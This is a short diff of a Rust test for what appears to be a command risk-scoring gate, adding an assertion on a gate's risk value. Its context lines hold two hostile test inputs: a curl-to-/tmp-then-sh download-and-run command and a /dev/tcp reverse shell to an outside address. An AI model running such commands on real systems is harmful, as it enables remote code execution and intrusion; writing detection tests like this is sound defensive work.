@@ -90,6 +90,9 @@ fn without_time_a_tree_with_signs_comes_first_and_the_rest_is_caught_up_with() {
             format!("curl -s http://10.0.0.{pid}/h{pid} -o /tmp/h{pid} && sh /tmp/h{pid} --check");
         assert!(bench.apply(&runs(pid, &text), Hurry::None).is_ok());
     }
+    // Without signs it is the gate's word that counts.
+    let by_gate = bench.waiting.next_risk();
+    assert!(by_gate.is_some_and(|risk| risk != 0.0), "{by_gate:?}");
     let attack = runs(99, "exec 9<>/dev/tcp/203.0.113.4/8443; sh <&9 >&9 2>&9");
     let thresholds = bench.judge.as_ref().unwrap().thresholds(None);
     // More signs than any gate's log-odds.
